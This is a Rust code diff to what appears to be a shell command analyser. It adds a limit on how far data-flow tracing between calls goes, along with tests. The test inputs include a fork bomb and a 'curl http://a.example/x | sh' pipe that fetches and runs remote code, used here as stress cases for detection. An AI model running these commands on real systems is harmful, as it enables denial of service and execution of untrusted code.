@@ -9,6 +9,7 @@ mod print;
 mod run;
 
 use std::borrow::Cow;
+use std::cell::Cell;
 use std::ops::Range;
 
 use super::syntax::Direction;
@@ -166,12 +167,28 @@ pub(super) struct Reading {
     pub encoded_files: Vec<Range<usize>>,
     /// Whether a budget was used up.
     pub cut: bool,
+    /// What the reading cost, as if bytes had been read.
+    pub work: usize,
+    /// Calls that were asked about on the ways that data takes.
+    asked: Cell<usize>,
 }
 
 impl Reading {
     /// The calls of a range.
     pub(super) fn range(&self, range: &Range<usize>) -> impl Iterator<Item = &Call> {
         self.calls.get(range.clone()).unwrap_or_default().iter()
+    }
+
+    /// Whether not everything was followed to its end.
+    pub(super) fn is_cut(&self) -> bool {
+        self.cut || self.asked.get() > self.most_asked()
+    }
+
+    /// A pipe of a hundred programs asks of each about all before it: in all, no more than so many calls are looked at.
+    fn most_asked(&self) -> usize {
+        const OF_ANY: usize = 4 * 1024;
+        const OF_EACH: usize = 64;
+        OF_ANY + OF_EACH * self.calls.len()
     }
 
     /// Every call whose output reaches this one's input, nearest first.
@@ -186,6 +203,10 @@ impl Reading {
         };
         push(call, &mut open);
         while let Some(index) = open.pop() {
+            self.asked.set(self.asked.get() + 1);
+            if self.asked.get() > self.most_asked() {
+                break;
+            }
             if let (Some(flag), Some(from)) = (seen.get_mut(index), self.calls.get(index))
                 && !std::mem::replace(flag, true)
             {
@@ -288,5 +309,54 @@ pub(super) fn is_decoder(call: &Call) -> bool {
             .first()
             .is_some_and(|word| word.text.contains("-z") || word.text.contains("-Z")),
         _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_reading_costs_is_bounded_by_the_length_of_the_text() {
+        const OF_ANY: usize = 512 * 1024;
+        const PER_BYTE: usize = 320;
+        let units = [
+            "f(){ f|f& };f;",
+            "{a,b}{c,d}",
+            "a=$a$a; ",
+            "$(echo ",
+            "cat <<E\n",
+            "a | ",
+            "for i in a b; do ",
+            "bash -c 'bash -c \"",
+            "sudo env xargs ",
+            "g(){ f;f;f; };f(){ h;h;h; };h(){ a;a;a; };g;",
+        ];
+        for unit in units {
+            for times in [1, 5, 50, 1_000] {
+                let text = unit.repeat(times);
+                let reading = read(&text);
+                let most = OF_ANY + PER_BYTE * text.len();
+                assert!(reading.work <= most, "{unit:?} {times} times costs {}", reading.work);
+                for call in &reading.calls {
+                    reading.upstream(call);
+                }
+                assert!(
+                    reading.asked.get() <= reading.most_asked() + reading.calls.len(),
+                    "{unit:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn a_pipe_of_very_many_programs_is_told() {
+        let text = format!("curl http://a.example/x {}| sh", "| cat ".repeat(390));
+        let reading = read(&text);
+        for call in &reading.calls {
+            reading.upstream(call);
+        }
+        assert!(reading.is_cut());
+        assert!(!read("curl http://a.example/x | tee a | grep -v b | sort | sh").is_cut());
     }
 }
